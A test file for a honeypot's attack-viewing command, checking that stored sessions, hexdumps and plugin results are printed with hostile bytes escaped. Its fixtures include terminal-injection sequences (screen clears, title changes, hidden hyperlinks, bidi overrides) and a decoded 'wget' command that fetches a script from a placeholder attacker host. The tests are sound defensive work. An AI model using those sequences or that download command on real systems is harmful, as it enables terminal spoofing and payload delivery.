import { createHash } from 'node:crypto'
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import Database from 'better-sqlite3'
import { pino } from 'pino'
import { describe, expect, it, onTestFinished } from 'vitest'
import type { Attack, TranscriptChunk } from '../../src/attack/attack.js'
import { formatAttackDetail, loadAttackDetail, type AttackDetail } from '../../src/cli/attack-show.js'
import { openAttackDatabase } from '../../src/store/attack-query.js'
import { loadMigrations, migrate } from '../../src/store/migrate.js'
import { createSqliteStore } from '../../src/store/sqlite-store.js'
import { attackRecord } from '../helpers/attack-record.js'

// Databases written by the real store, as the sensor writes them; plugin rows added by SQL as the pipeline would.

const BASE_MS = Date.UTC(2026, 0, 2, 3, 4, 5, 678)
const SMALL_ID = '01KAZ5X7R8M9N0P1Q2R3S4T5V6'
const HOSTILE_ID = '01KAZ5X7R8M9N0P1Q2R3S4T5V7'

function tempDir(): string {
  const dir = mkdtempSync(join(tmpdir(), 'honeytrap-show-'))
  onTestFinished(() => rmSync(dir, { recursive: true, force: true }))
  return dir
}

function digest(algorithm: string, bytes: Buffer): string {
  return createHash(algorithm).update(bytes).digest('hex')
}

/** A session from its chunks, in order: the payload and response are their concatenations per direction. */
function session(id: string, chunks: readonly (readonly ['in' | 'out', number, Buffer])[], overrides: Partial<Attack> = {}): Attack {
  const payload = Buffer.concat(chunks.filter((c) => c[0] === 'in').map((c) => c[2]))
  const response = Buffer.concat(chunks.filter((c) => c[0] === 'out').map((c) => c[2]))
  const transcript: TranscriptChunk[] = chunks.map(([direction, offsetMs, bytes]) => ({ direction, offsetMs, size: bytes.length }))
  return attackRecord(payload, {
    id,
    source: { address: '203.0.113.5', port: 40_001 },
    target: { address: '198.18.0.1', port: 21 },
    startedAtMs: BASE_MS,
    endedAtMs: BASE_MS + 5_123,
    response,
    transcript,
    ...overrides,
  })
}

const SMALL = session(SMALL_ID, [
  ['out', 0, Buffer.from('220 hi\r\n')],
  ['in', 310, Buffer.from('USER root\r\n')],
  ['out', 311, Buffer.from('331 ok\r\n')],
  ['in', 5_020, Buffer.from('PASS x\r\n')],
])

// Text with every trick a terminal falls for: clear screen, window title, an OSC 8 hyperlink, a C1 CSI in UTF-8,
// bidi overrides and isolates, a zero-width space, invalid UTF-8.
const HOSTILE_TEXT = Buffer.concat([
  Buffer.from('GET /\u001b[2J\u001b]0;title\u0007 HTTP/1.1\r\nHost: \u001b]8;;http://evil.example/\u001b\\click\u001b]8;;\u001b\\\r\n'),
  Buffer.from('X-A: \u009b31m red \u202eevil\u202c and \u2066isolated\u2069 zero\u200bwidth here\r\nX-B: '),
  Buffer.from([0xff, 0xfe, 0xc0, 0x80]),
  Buffer.from(' plain text to keep this chunk mostly printable\r\n\r\n'),
])
// A binary chunk: every byte value once, controls and C1 bytes among them.
const BINARY = Buffer.from(Array.from({ length: 256 }, (_, i) => (i * 73) & 0xff))

const HOSTILE = session(
  HOSTILE_ID,
  [
    ['out', 0, Buffer.from('\u001b[31mwelcome\u001b[0m\r\n\u0085$ ')],
    ['in', 120, HOSTILE_TEXT],
    ['out', 121, Buffer.from('\u202e$ \u001b]0;owned\u0007')],
    ['in', 500, BINARY],
    ['in', 900, Buffer.from('ls -la\n')],
  ],
  { mode: 'mirror', relay: { target: '203.0.113.5:21', outcome: 'fallback', reason: 'loop' }, closeReason: 'idle-timeout' },
)

// What a decoder found in it: a command with a window-title sequence of its own.
const DECODED = Buffer.from('wget http://evil.example/\u001b]0;t\u0007a.sh\n')

async function writeStore(path: string, attacks: readonly Attack[]): Promise<void> {
  const log = pino({ level: 'silent' })
  const store = await createSqliteStore({ path, batchWindowMs: 20, batchMaxAttacks: 100, maxQueuedAttacks: 1_000, maxQueuedBytes: 1 << 24, log })
  for (const attack of attacks) store.enqueue(attack)
  await store.close()
}

function load(path: string, id: string): AttackDetail | undefined {
  const db = openAttackDatabase(path)
  onTestFinished(() => void db.close())
  return loadAttackDetail(db, id)
}

/** The code points a terminal would act on, or that hide or reorder text; `\n` is the one control allowed. */
function dangerousIn(text: string): string[] {
  const found: string[] = []
  for (const ch of text) {
    const cp = ch.codePointAt(0)!
    const control = (cp < 0x20 && cp !== 0x0a) || (cp >= 0x7f && cp <= 0x9f)
    const hiding = (cp >= 0x202a && cp <= 0x202e) || (cp >= 0x2066 && cp <= 0x2069) || (cp >= 0x200b && cp <= 0x200f) || cp === 0xfeff
    if (control || hiding || cp === 0xfffd) found.push(cp.toString(16))
  }
  return found
}

describe('attacks show', () => {
  it('lays out a small session as a dialogue, header first', async () => {
    const path = join(tempDir(), 'attacks.db')
    await writeStore(path, [SMALL, HOSTILE])
    const detail = load(path, SMALL_ID)
    expect(detail).toBeDefined()
    const payload = Buffer.from('USER root\r\nPASS x\r\n')
    expect(formatAttackDetail(detail!, { color: false, maxBytesPerChunk: 4_096 })).toBe(
      [
        `attack ${SMALL_ID}`,
        '  time      2026-01-02 03:04:05.678 -> 2026-01-02 03:04:10.801 UTC (5.123 s)',
        '  protocol  tcp, IPv4',
        '  source    203.0.113.5:40001 -> 198.18.0.1:21',
        '  mode      normal',
        '  relay     -',
        '  closed    peer-closed',
        '  opening   - (not seen by the monitor)',
        '  in        19 bytes received, 19 kept',
        '  out       16 bytes sent, 16 kept',
        `  md5       ${digest('md5', payload)}`,
        `  sha256    ${digest('sha256', payload)}`,
        `  sha512    ${digest('sha512', payload)}`,
        '',
        'transcript (4 chunks)',
        '<<< out +0 ms  8 bytes',
        '    220 hi\\r\\n',
        '>>> in  +310 ms  11 bytes',
        '    USER root\\r\\n',
        '<<< out +311 ms  8 bytes',
        '    331 ok\\r\\n',
        '>>> in  +5020 ms  8 bytes',
        '    PASS x\\r\\n',
        '',
        'plugins',
        '  no results (the plugins have not run on this attack, or the database predates schema 3)',
      ].join('\n'),
    )
    expect(load(path, '01KAZ5X7R8M9N0P1Q2R3S4T5ZZ')).toBeUndefined()
  })

  it('escapes every hostile byte of a multi-chunk session, text as text and binary as a hexdump', async () => {
    const path = join(tempDir(), 'attacks.db')
    await writeStore(path, [HOSTILE])
    const text = formatAttackDetail(load(path, HOSTILE_ID)!, { color: false, maxBytesPerChunk: 4_096 })
    expect(dangerousIn(text)).toEqual([])
    expect(text).not.toContain('\u001b')
    expect(text).toContain('  relay     203.0.113.5:21, fallback (loop)')
    expect(text).toContain('  mode      mirror')
    const lines = text.split('\n')
    const headers = lines.filter((l) => l.startsWith('>>>') || l.startsWith('<<<'))
    expect(headers).toEqual([
      '<<< out +0 ms  22 bytes',
      `>>> in  +120 ms  ${HOSTILE_TEXT.length} bytes`,
      '<<< out +121 ms  15 bytes',
      '>>> in  +500 ms  256 bytes',
      '>>> in  +900 ms  7 bytes',
    ])
    expect(lines).toContain('    \\x1b[31mwelcome\\x1b[0m\\r\\n')
    expect(lines).toContain('    \\u{85}$ ')
    expect(lines).toContain('    GET /\\x1b[2J\\x1b]0;title\\x07 HTTP/1.1\\r\\n')
    expect(lines).toContain('    Host: \\x1b]8;;http://evil.example/\\x1b\\\\click\\x1b]8;;\\x1b\\\\\\r\\n')
    expect(lines).toContain('    X-A: \\u{9b}31m red \\u{202e}evil\\u{202c} and \\u{2066}isolated\\u{2069} zero\\u{200b}width here\\r\\n')
    expect(lines).toContain('    X-B: \\xff\\xfe\\xc0\\x80 plain text to keep this chunk mostly printable\\r\\n')
    // The binary chunk is a hexdump: 16 lines of 16 bytes, right after its header.
    const at = lines.indexOf('>>> in  +500 ms  256 bytes')
    expect(lines[at + 1]).toBe('    00000000  00 49 92 db 24 6d b6 ff  48 91 da 23 6c b5 fe 47  |.I..$m..H..#l..G|')
    expect(lines[at + 17]).toBe('>>> in  +900 ms  7 bytes')
    expect(lines[at + 18]).toBe('    ls -la\\n')

    // Colour only from our own codes: with them removed, not one ESC is left.
    const colored = formatAttackDetail(load(path, HOSTILE_ID)!, { color: true, maxBytesPerChunk: 4_096 })
    const codes = colored.match(/\u001b\[[0-9;]*m/g) ?? []
    expect(new Set(codes)).toEqual(new Set(['\u001b[1m', '\u001b[1;31m', '\u001b[1;36m', '\u001b[0m']))
    expect(dangerousIn(colored.replace(/\u001b\[(1|1;31|1;36|0)m/g, ''))).toEqual([])
    expect(colored).toContain('\u001b[1;31m>>> in \u001b[0m +120 ms')
  })

  it('cuts chunks at maxBytesPerChunk and counts the rest', async () => {
    const path = join(tempDir(), 'attacks.db')
    await writeStore(path, [HOSTILE])
    const lines = formatAttackDetail(load(path, HOSTILE_ID)!, { color: false, maxBytesPerChunk: 32 }).split('\n')
    const at = lines.indexOf('>>> in  +500 ms  256 bytes')
    expect(lines.slice(at + 1, at + 4)).toEqual([
      '    00000000  00 49 92 db 24 6d b6 ff  48 91 da 23 6c b5 fe 47  |.I..$m..H..#l..G|',
      '    00000010  90 d9 22 6b b4 fd 46 8f  d8 21 6a b3 fc 45 8e d7  |.."k..F..!j..E..|',
      '    … 224 more bytes',
    ])
    expect(lines).toContain(`    … ${HOSTILE_TEXT.length - 32} more bytes`)
  })

  it('shows what the plugins stored: artifacts, downloads with their samples, failed runs, all escaped', async () => {
    const path = join(tempDir(), 'attacks.db')
    await writeStore(path, [SMALL, HOSTILE])
    const subject = digest('sha256', HOSTILE.payload)
    const sample = 'ab'.repeat(32)
    const db = new Database(path)
    try {
      const run = db.prepare('INSERT INTO plugin_runs (attack_id, subject_sha256, plugin, status, error, started_at, duration_ms) VALUES (?, ?, ?, ?, ?, ?, ?)')
      const ok = run.run(HOSTILE_ID, subject, 'httpDownload', 'ok', null, BASE_MS + 6_000, 40).lastInsertRowid
      const decoder = run.run(HOSTILE_ID, subject, 'b64Decode', 'ok', null, BASE_MS + 6_000, 2).lastInsertRowid
      run.run(HOSTILE_ID, subject, 'clamav', 'failed', 'scan failed: \u001b[2Jsocket \u202egone', BASE_MS + 6_100, 5_000)
      const artifact = db.prepare('INSERT INTO artifacts (run_id, attack_id, subject_sha256, kind, match_key, sha256, size, data, info) VALUES (?, ?, ?, ?, ?, ?, ?, ?, ?)')
      artifact.run(ok, HOSTILE_ID, subject, 'url', 'http://evil.example/\u202ex.sh', null, null, null, JSON.stringify({ url: 'http://evil.example/\u001b[2J\u202ex.sh' }))
      artifact.run(decoder, HOSTILE_ID, subject, 'decoded', null, digest('sha256', DECODED), DECODED.length, DECODED, '{"encoding":"base64"}')
      db.prepare(`INSERT INTO downloads (run_id, attack_id, subject_sha256, plugin, url, outcome, reason, address, bytes, sha256, started_at, duration_ms)
        VALUES (?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?)`).run(ok, HOSTILE_ID, subject, 'httpDownload', 'http://evil.example/\u202ex.sh', 'ok', null, '198.51.100.9:80', 1_234, sample, BASE_MS + 6_000, 40)
      db.prepare('INSERT INTO samples (sha256, size, first_seen, path) VALUES (?, ?, ?, ?)').run(sample, 1_234, BASE_MS + 6_040, `/var/lib/honeytrap/samples/${sample}`)
    } finally {
      db.close()
    }
    const text = formatAttackDetail(load(path, HOSTILE_ID)!, { color: false, maxBytesPerChunk: 4_096 })
    expect(dangerousIn(text)).toEqual([])
    const lines = text.split('\n')
    const from = lines.indexOf('plugins (2 runs ok, 1 failed)')
    expect(lines.slice(from)).toEqual([
      'plugins (2 runs ok, 1 failed)',
      'artifacts (2)',
      '  url (httpDownload)  key http://evil.example/\\u{202e}x.sh  info {"url":"http://evil.example/\\\\u001b[2J\\u{202e}x.sh"}',
      '  decoded (b64Decode)  info {"encoding":"base64"}',
      `    decoded ${DECODED.length} bytes, sha256 ${digest('sha256', DECODED)}`,
      '      wget http://evil.example/\\x1b]0;t\\x07a.sh\\n',
      'downloads (1)',
      '  http://evil.example/\\u{202e}x.sh (httpDownload)',
      `    ok  1234 bytes  from 198.51.100.9:80  sha256 ${sample}`,
      `    sample 1234 bytes, first seen 2026-01-02 03:04:11.718 UTC, /var/lib/honeytrap/samples/${sample}`,
      'failed runs (1)',
      `  clamav  failed  subject ${subject}  at 2026-01-02 03:04:11.778 UTC (5000 ms)`,
      '    scan failed: \\x1b[2Jsocket \\u{202e}gone',
    ])
    // The other attack has no results of its own.
    expect(formatAttackDetail(load(path, SMALL_ID)!, { color: false, maxBytesPerChunk: 4_096 })).toContain('  no results (the plugins have not run')
  })

  it('shows the payload and the response whole when the transcript is missing (schema 1) or unreadable', async () => {
    const dir = tempDir()
    const v1 = join(dir, 'v1.db')
    const migrationsDir = join(dir, 'migrations-v1')
    mkdirSync(migrationsDir)
    const first = loadMigrations()[0]!
    writeFileSync(join(migrationsDir, first.name), first.sql)
    const db = new Database(v1)
    try {
      migrate(db, { migrationsDir })
      const a = HOSTILE
      db.prepare(`INSERT INTO attacks (id, protocol, family, mode, src_ip, src_port, dst_ip, dst_port, started_at, ended_at, close_reason,
        bytes_received, bytes_sent, truncated, payload, payload_size, md5, sha256, sha512) VALUES (?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?)`).run(
        a.id, a.protocol, a.family, 'normal', a.source.address, a.source.port, a.target.address, a.target.port, a.startedAtMs, a.endedAtMs,
        a.closeReason, a.bytesReceived, a.bytesSent, 0, a.payload, a.payload.length, digest('md5', a.payload), digest('sha256', a.payload), digest('sha512', a.payload),
      )
    } finally {
      db.close()
    }
    const old = formatAttackDetail(load(v1, HOSTILE_ID)!, { color: false, maxBytesPerChunk: 4_096 })
    expect(dangerousIn(old)).toEqual([])
    const lines = old.split('\n')
    expect(lines).toContain('  out       37 bytes sent, none recorded (written before schema 2)')
    expect(lines).toContain('transcript not recorded (written before schema 2): the payload and the response whole')
    expect(lines).toContain(`>>> in  payload  ${HOSTILE.payload.length} bytes`)
    expect(lines).toContain('<<< out response  not recorded')
    expect(lines.filter((l) => l.startsWith('>>>') || l.startsWith('<<<'))).toHaveLength(2)

    // Hand-edited transcripts, one running past the payload, one with a hostile direction: said so, escaped, and the
    // bytes still shown whole.
    const v3 = join(dir, 'v3.db')
    await writeStore(v3, [HOSTILE])
    const transcriptLines = (transcript: unknown): string[] => {
      const edit = new Database(v3)
      edit.prepare('UPDATE attacks SET transcript = ? WHERE id = ?').run(JSON.stringify(transcript), HOSTILE_ID)
      edit.close()
      const text = formatAttackDetail(load(v3, HOSTILE_ID)!, { color: false, maxBytesPerChunk: 4_096 })
      expect(dangerousIn(text)).toEqual([])
      return text.split('\n')
    }
    expect(transcriptLines([['\u001b[2J\u202e', 0, 1]])).toContain(
      'transcript unreadable (transcript chunk 0 has direction "\\\\u001b[2J\\u{202e}", expected "in" or "out"): the payload and the response whole',
    )
    const bad = transcriptLines([['in', 0, 99_999]])
    expect(bad).toContain(
      `transcript unreadable (transcript chunk 0 ends at byte 99999 of the payload, which has ${HOSTILE.payload.length}): the payload and the response whole`,
    )
    expect(bad).toContain('<<< out response  37 bytes')
  })
})
